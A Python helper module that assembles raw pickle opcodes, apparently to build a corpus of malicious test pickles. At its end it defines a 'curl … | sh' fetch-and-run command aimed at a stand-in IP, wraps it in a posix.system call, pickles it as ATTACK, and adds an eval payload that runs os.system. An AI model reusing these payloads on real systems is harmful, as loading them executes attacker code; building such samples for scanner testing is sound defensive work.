"""An assembler for pickles, and the payloads that all of the corpus carries."""

from __future__ import annotations

import struct

STOP, MARK, REDUCE, BUILD, MEMOIZE = b".", b"(", b"R", b"b", b"\x94"
TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b")"
EMPTY_DICT, EMPTY_LIST, SETITEM, SETITEMS, APPENDS = b"}", b"]", b"s", b"u", b"e"
STACK_GLOBAL, NEWOBJ, NEWOBJ_EX, POP, NONE, BINPERSID = b"\x93", b"\x81", b"\x92", b"0", b"N", b"Q"


def proto(version: int) -> bytes:
    return bytes([0x80, version])


def text(string: str) -> bytes:
    data = string.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def short(string: str) -> bytes:
    data = string.encode()
    return b"\x8c" + bytes([len(data)]) + data


def raw(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def name(module: str, attribute: str) -> bytes:
    """The name by the opcode GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return short(module) + short(attribute) + STACK_GLOBAL


def arguments(*values: bytes) -> bytes:
    return MARK + b"".join(values) + TUPLE


def call(module: str, attribute: str, *values: bytes | str) -> bytes:
    """The result of a call; texts stand for themselves."""
    given = [text(value) if isinstance(value, str) else value for value in values]
    return name(module, attribute) + arguments(*given) + REDUCE


def table(**entries: bytes) -> bytes:
    """A dict."""
    return EMPTY_DICT + MARK + b"".join(text(key) + value for key, value in entries.items()) + SETITEMS


def pickled(body: bytes, version: int = 2) -> bytes:
    return proto(version) + body + STOP


def pushed(value: object) -> bytes:  # noqa: PLR0911 - a kind of value a line
    """Opcodes that push a plain value."""
    if value is None:
        return NONE
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return number(value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return raw(value)
    if isinstance(value, tuple):
        return arguments(*map(pushed, value))
    if isinstance(value, list):
        return EMPTY_LIST + MARK + b"".join(map(pushed, value)) + APPENDS
    if isinstance(value, dict):
        pairs = b"".join(pushed(key) + pushed(item) for key, item in value.items())
        return EMPTY_DICT + MARK + pairs + SETITEMS
    raise TypeError(type(value).__name__)


COMMAND = "curl -s http://198.51.100.7/x | sh"
SYSTEM = call("posix", "system", COMMAND)
"""What most attacks come to."""
EVAL = call("builtins", "eval", "__import__('os').system('id')")
ATTACK = pickled(SYSTEM)
CODE = "import os\nos.system('id')\n"
